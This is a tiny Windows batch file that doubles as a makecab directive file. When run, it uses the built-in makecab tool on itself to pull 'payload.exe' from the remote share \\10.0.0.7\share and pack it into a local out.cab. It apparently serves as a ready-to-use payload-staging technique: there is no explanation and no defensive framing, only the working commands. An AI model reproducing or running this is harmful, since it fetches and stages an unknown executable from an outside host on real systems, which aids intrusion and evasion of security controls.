;@echo off
;makecab /f "%~f0" /D SourceDir=\\10.0.0.7\share
;exit /b
.Set CabinetNameTemplate=out.cab
.Set DiskDirectoryTemplate=.
.Set MaxDiskSize=0
payload.exe
